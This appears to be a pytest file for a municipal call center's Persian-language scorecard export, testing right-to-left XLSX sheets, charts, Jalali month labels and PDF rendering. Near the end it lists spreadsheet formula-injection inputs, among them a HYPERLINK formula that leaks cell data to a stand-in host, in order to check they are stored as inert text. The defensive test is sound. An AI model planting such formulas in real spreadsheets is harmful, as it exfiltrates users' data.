"""The scorecard files for the mayor: the workbook opens with openpyxl, right to left; the PDF renders to a picture."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime
from io import BytesIO

import openpyxl
import pypdfium2 as pdfium
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from callcenter.platform.calendar import jalali_month_label, jalali_month_window, previous_jalali_months
from callcenter.reports.scorecard import (
    Scorecard,
    ScorecardTrend,
    TrendMonth,
    TrendPoint,
    UnitScore,
    UnitTrend,
)
from callcenter.reports.scorecard_export import (
    PALETTE,
    UNITS_PER_PAGE,
    XLSX_COLUMNS,
    channel_note,
    export_filename,
    scorecard_pdf,
    scorecard_title,
    scorecard_xlsx,
    trend_plot_box,
)
from callcenter.tickets.channels import ChannelCounts

TITLE = scorecard_title(1405, 9)
GREEN_SPACE = "فضای سبز"
WASTE = "مدیریت پسماند"


def unit(rank: int, name: str, score: float | None, *, median: float | None = 5.25) -> UnitScore:
    return UnitScore(
        unit_id=rank, unit_name=name, rank=rank, score=score, received=12, left_before_done=1, reported_done=10,
        on_time=8, late=2, on_time_rate=0.8, median_hours_to_done=median, p90_hours_to_done=30.0,
        verified_resolved=7, verified_not_resolved=1, verification_pass_rate=0.875, reopened=1, reopen_rate=0.1,
        verdicts_against=2, verdicts_for=1, citizens_asked=8, citizens_satisfied=7, citizen_satisfaction=None,
        received_by_channel=ChannelCounts(phone=8, web=2, in_person=1, open311=1),
    )


def card(units: list[UnitScore]) -> Scorecard:
    return Scorecard(start=datetime(2026, 11, 21, 20, 30, tzinfo=UTC), end=datetime(2026, 12, 21, 20, 30, tzinfo=UTC),
                     generated_at=datetime(2026, 12, 25, 8, 0, tzinfo=UTC), units=units,
                     received_by_channel=ChannelCounts.summed(u.received_by_channel for u in units))


def sheet_of(content: bytes) -> Worksheet:
    sheet = openpyxl.load_workbook(BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def row_of(sheet: Worksheet, row: int) -> dict[str, object]:
    return {column.header: sheet.cell(row, index).value for index, column in enumerate(XLSX_COLUMNS, start=1)}


def letter_of(header: str) -> str:
    return get_column_letter(next(i for i, c in enumerate(XLSX_COLUMNS, start=1) if c.header == header))


def test_given_a_unit_when_exported_to_xlsx_then_its_receipts_per_channel_follow_its_receipts() -> None:
    sheet = sheet_of(scorecard_xlsx(card([unit(1, WASTE, 0.9)]), title=TITLE))

    assert [sheet.cell(3, i).value for i in range(4, 9)] == [
        "دریافتی", "دریافتی از تلفن", "دریافتی از سامانه اینترنتی", "دریافتی از حضوری",
        "دریافتی از برنامه‌های همکار (اپن ۳۱۱)"]
    assert [sheet.cell(4, i).value for i in range(4, 9)] == [12, 8, 2, 1, 1]


def test_given_receipts_per_channel_when_exported_to_pdf_then_the_page_says_them_in_persian_digits() -> None:
    units = [unit(1, WASTE, 0.9), unit(2, GREEN_SPACE, 0.5)]
    assert channel_note(card(units).received_by_channel) == (
        "ارجاع‌ها به تفکیک مسیر ثبت: تلفن ۱۶ · سامانه اینترنتی ۴ · حضوری ۲ · برنامه‌های همکار (اپن ۳۱۱) ۲")
    document = pdfium.PdfDocument(scorecard_pdf(card(units), title=TITLE))
    try:
        text = document[0].get_textpage().get_text_range()
    finally:
        document.close()
    assert {"۱", "۶", "۴"} <= set(text)
    assert Counter("حضوری") <= Counter(text)


def test_the_title_names_the_jalali_month_in_persian_digits_and_the_file_name_is_ascii() -> None:
    assert TITLE == "کارنامه ارزیابی واحدها — آذر ۱۴۰۵"
    assert export_filename(1405, 9, "pdf") == "scorecard-1405-09.pdf"


def test_given_two_units_when_exported_to_xlsx_then_an_rtl_sheet_with_persian_headers_and_rank_order() -> None:
    content = scorecard_xlsx(card([unit(2, GREEN_SPACE, 0.5), unit(1, WASTE, 0.9)]), title=TITLE)

    sheet = sheet_of(content)

    assert sheet.sheet_view.rightToLeft is True
    assert sheet["A1"].value == TITLE
    assert [sheet.cell(3, i).value for i in range(1, 5)] == ["رتبه", "واحد", "امتیاز", "دریافتی"]
    assert sheet.freeze_panes == "C4"
    assert [sheet.cell(row, 2).value for row in (4, 5)] == [WASTE, GREEN_SPACE]


def test_given_a_unit_when_exported_to_xlsx_then_rates_are_percent_numbers_hours_one_decimal_and_none_empty() -> None:
    sheet = sheet_of(scorecard_xlsx(card([unit(1, WASTE, 0.9, median=None)]), title=TITLE))

    values = row_of(sheet, 4)
    assert values["امتیاز"] == 0.9 and sheet["C4"].number_format == "0%"
    assert values["پاسخ به‌موقع"] == 0.8
    p90 = "صدک ۹۰ زمان انجام (ساعت)"
    assert values[p90] == 30 and sheet[f"{letter_of(p90)}4"].number_format == "0.0"
    assert values["میانه زمان انجام (ساعت)"] is None
    assert values["رضایت شهروند"] is None
    assert (values["رأی ناظر علیه واحد"], values["رأی ناظر له واحد"]) == (2, 1)
    assert sheet.column_dimensions["B"].width == 28


def test_given_units_when_exported_to_xlsx_then_a_horizontal_bar_chart_plots_the_score_column() -> None:
    sheet = sheet_of(scorecard_xlsx(card([unit(1, WASTE, 0.9), unit(2, GREEN_SPACE, 0.5)]), title=TITLE))

    charts = sheet._charts  # openpyxl reads charts back but exposes them only here
    assert len(charts) == 1
    assert charts[0].type == "bar"
    assert charts[0].series[0].val.numRef.f == "'کارنامه'!$C$4:$C$5"


def test_given_no_units_when_exported_to_xlsx_then_headers_only_and_no_chart() -> None:
    sheet = sheet_of(scorecard_xlsx(card([]), title=TITLE))
    assert sheet.max_row == 3
    assert sheet._charts == []


def units_for(count: int) -> list[UnitScore]:
    names = (WASTE, GREEN_SPACE, "حمل و نقل")
    return [unit(rank, f"{names[rank % 3]} {rank}", max(0.0, 1 - rank / 30)) for rank in range(1, count + 1)]


@pytest.mark.parametrize(("count", "pages"), [(0, 1), (1, 1), (UNITS_PER_PAGE, 1), (UNITS_PER_PAGE + 1, 2), (23, 3)])
def test_given_units_when_exported_to_pdf_then_one_page_per_ten_units(count: int, pages: int) -> None:
    content = scorecard_pdf(card(units_for(count)), title=TITLE)

    assert content.startswith(b"%PDF")
    document = pdfium.PdfDocument(content)
    try:
        assert len(document) == pages
        width, height = document[0].get_size()
        assert width > height  # landscape
        assert round(width / 72 * 25.4) == 297
    finally:
        document.close()


def test_given_units_when_the_pdf_page_is_rendered_then_it_holds_dark_text_and_green_bars() -> None:
    document = pdfium.PdfDocument(scorecard_pdf(card(units_for(4)), title=TITLE))
    try:
        image = document[0].render(scale=1).to_pil().convert("RGB")
    finally:
        document.close()

    pixels = Counter({colour: n for n, colour in image.getcolors(maxcolors=1 << 24) or []})
    dark = sum(n for (r, g, b), n in pixels.items() if r + g + b < 200)
    bar_green = sum(n for (r, g, b), n in pixels.items() if (r, g, b) == (11, 110, 79))
    assert len(pixels) > 2
    assert dark > 2_000  # the text and grid, not a blank page
    assert bar_green > 5_000  # the header row and the four score bars


def test_given_units_when_the_pdf_text_is_extracted_then_their_letters_and_persian_figures_are_there() -> None:
    """Shaped Persian comes back from pdfium as glyph clusters in visual order, not as words, so the test checks
    that every letter of each unit name is there (as a multiset) and that figures print in Persian digits."""
    units = [unit(1, WASTE, 0.9), unit(2, GREEN_SPACE, 0.5)]
    document = pdfium.PdfDocument(scorecard_pdf(card(units), title=TITLE))
    try:
        text = document[0].get_textpage().get_text_range()
    finally:
        document.close()

    letters = Counter(text)
    names = Counter((WASTE + GREEN_SPACE).replace(" ", ""))
    assert names <= letters
    assert {"۱", "۲", "۹", "۰", "٪"} <= set(text)
    assert not set("0123456789") & set(text)


# --- The trend --------------------------------------------------------------------------------------------------------

MONTH_LABELS = ["تیر ۱۴۰۵", "مرداد ۱۴۰۵", "شهریور ۱۴۰۵", "مهر ۱۴۰۵", "آبان ۱۴۰۵", "آذر ۱۴۰۵"]


def point(score: float | None) -> TrendPoint | None:
    if score is None:
        return None
    return TrendPoint(rank=1, score=score, received=4, on_time_rate=0.75, verification_pass_rate=0.5, reopen_rate=0.25)


def trend(*lines: tuple[str, list[float | None]]) -> ScorecardTrend:
    months = [TrendMonth(year=year, month=month, start=jalali_month_window(year, month)[0],
                         end=jalali_month_window(year, month)[1]) for year, month in previous_jalali_months(1405, 9, 6)]
    return ScorecardTrend(generated_at=datetime(2026, 12, 25, 8, 0, tzinfo=UTC), months=months, units=[
        UnitTrend(unit_id=index, unit_name=name, points=[point(score) for score in scores])
        for index, (name, scores) in enumerate(lines, start=1)])


TWO_LINES = trend((WASTE, [0.5, 0.6, None, 0.8, 0.7, 0.9]), (GREEN_SPACE, [0.2, 0.3, 0.4, 0.35, None, 0.6]))


def test_months_are_named_in_persian_with_persian_digits() -> None:
    assert jalali_month_label(1405, 7) == "مهر ۱۴۰۵"
    assert [jalali_month_label(m.year, m.month) for m in TWO_LINES.months] == MONTH_LABELS


def test_given_a_trend_when_exported_to_xlsx_then_a_second_rtl_sheet_holds_its_table_and_a_line_chart() -> None:
    book = openpyxl.load_workbook(BytesIO(scorecard_xlsx(card([unit(1, WASTE, 0.9)]), title=TITLE, trend=TWO_LINES)))

    assert book.sheetnames == ["کارنامه", "روند"]
    sheet = book["روند"]
    assert sheet.sheet_view.rightToLeft is True
    assert sheet["A1"].value == "روند کارنامه ارزیابی — تیر ۱۴۰۵ تا آذر ۱۴۰۵"
    # The score block first: its name, a header of months oldest first, a row per unit, empty for no receipts.
    assert sheet["A3"].value == "امتیاز"
    assert [sheet.cell(4, column).value for column in range(1, 8)] == ["واحد", *MONTH_LABELS]
    assert [sheet.cell(5, column).value for column in range(1, 8)] == [WASTE, 0.5, 0.6, None, 0.8, 0.7, 0.9]
    assert sheet["B5"].number_format == "0%"
    assert [sheet.cell(6, column).value for column in range(1, 8)] == [GREEN_SPACE, 0.2, 0.3, 0.4, 0.35, None, 0.6]
    # Then the rates the score is made of, and the receipts: name, header, two units and a blank row each.
    blocks = [sheet.cell(row, 1).value for row in range(3, sheet.max_row + 1, 5)]
    assert blocks == ["امتیاز", "پاسخ به‌موقع", "تأیید در تماس", "نرخ بازگشایی", "دریافتی"]
    assert sheet["B10"].value == 0.75 and sheet["B25"].value == 4 and sheet["B25"].number_format == "0"

    charts = sheet._charts  # openpyxl reads charts back but exposes them only here
    assert len(charts) == 1
    assert charts[0].tagname == "lineChart"
    assert len(charts[0].series) == 2
    assert charts[0].series[0].val.numRef.f == "'روند'!$B$5:$G$5"
    assert charts[0].series[1].tx.strRef.f == "'روند'!A6"  # the unit's name titles its line


def test_given_no_trend_or_an_empty_one_when_exported_to_xlsx_then_no_line_chart() -> None:
    assert openpyxl.load_workbook(BytesIO(scorecard_xlsx(card([]), title=TITLE))).sheetnames == ["کارنامه"]
    book = openpyxl.load_workbook(BytesIO(scorecard_xlsx(card([]), title=TITLE, trend=trend())))
    assert book["روند"]._charts == []


@pytest.mark.parametrize(("count", "pages"), [(0, 2), (3, 2), (UNITS_PER_PAGE + 1, 4)])
def test_given_a_trend_when_exported_to_pdf_then_a_trend_page_per_ten_units_follows_the_scorecard(
        count: int, pages: int) -> None:
    lines = [(f"{WASTE} {index}", [0.1 * index % 1, None, 0.5, 0.6, 0.7, 0.8]) for index in range(count)]
    document = pdfium.PdfDocument(scorecard_pdf(card(units_for(count)), title=TITLE, trend=trend(*lines)))
    try:
        assert len(document) == pages
    finally:
        document.close()


def test_given_a_trend_when_its_pdf_page_is_rendered_then_the_chart_area_holds_the_coloured_lines() -> None:
    content = scorecard_pdf(card([unit(1, WASTE, 0.9), unit(2, GREEN_SPACE, 0.5)]), title=TITLE, trend=TWO_LINES)
    document = pdfium.PdfDocument(content)
    try:
        assert len(document) == 2
        page = document[1]
        image = page.render(scale=2).to_pil().convert("RGB")
        text = page.get_textpage().get_text_range()
    finally:
        document.close()

    px_per_mm = image.width / 297
    left, top, right, bottom = (round(edge * px_per_mm) for edge in trend_plot_box())
    plot = image.crop((left, top, right, bottom))
    pixels = Counter({colour: n for n, colour in plot.getcolors(maxcolors=1 << 24) or []})
    blue = sum(n for colour, n in pixels.items() if colour == PALETTE[0])
    orange = sum(n for colour, n in pixels.items() if colour == PALETTE[1])
    assert blue > 500 and orange > 500  # each unit's line and dots, in its own colour
    assert sum(n for colour, n in pixels.items() if colour != (255, 255, 255)) > 2_000
    # The legend names both units (shaped Persian comes back as glyph clusters: letters as a multiset), the axis the
    # months, in Persian digits only.
    assert Counter((WASTE + GREEN_SPACE).replace(" ", "")) <= Counter(text)
    assert Counter("".join(MONTH_LABELS).replace(" ", "")) <= Counter(text)
    assert not set("0123456789") & set(text)


def test_given_a_trend_without_units_when_exported_to_pdf_then_its_page_says_so() -> None:
    document = pdfium.PdfDocument(scorecard_pdf(card([]), title=TITLE, trend=trend()))
    try:
        text = document[1].get_textpage().get_text_range()
    finally:
        document.close()
    assert Counter("ارجاع‌نشده".replace("\u200c", "")) <= Counter(text)


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1, "پسماند")', "+1+2", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1"]  # (a CR comes back from the XML as a newline; the trigger list covers it)


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_given_a_unit_named_like_a_formula_when_exported_to_xlsx_then_both_sheets_hold_it_as_text(name: str) -> None:
    content = scorecard_xlsx(card([unit(1, name, 0.9)]), title=TITLE, trend=trend((name, [0.5] * 6)))

    book = openpyxl.load_workbook(BytesIO(content))
    for cell in (book["کارنامه"]["B4"], book["روند"]["A5"]):
        assert cell.value == name
        assert cell.data_type == "s"
        assert cell.quotePrefix is True  # Excel's hidden apostrophe: editing the cell keeps it text
    # Real numbers stay numbers beside it.
    assert book["کارنامه"]["A4"].value == 1 and book["کارنامه"]["A4"].data_type == "n"
    assert book["کارنامه"]["C4"].value == 0.9 and book["کارنامه"]["C4"].data_type == "n"


def test_given_an_ordinary_unit_name_when_exported_to_xlsx_then_no_quote_prefix() -> None:
    cell = sheet_of(scorecard_xlsx(card([unit(1, WASTE, 0.9)]), title=TITLE))["B4"]
    assert cell.value == WASTE and cell.data_type == "s" and not cell.quotePrefix
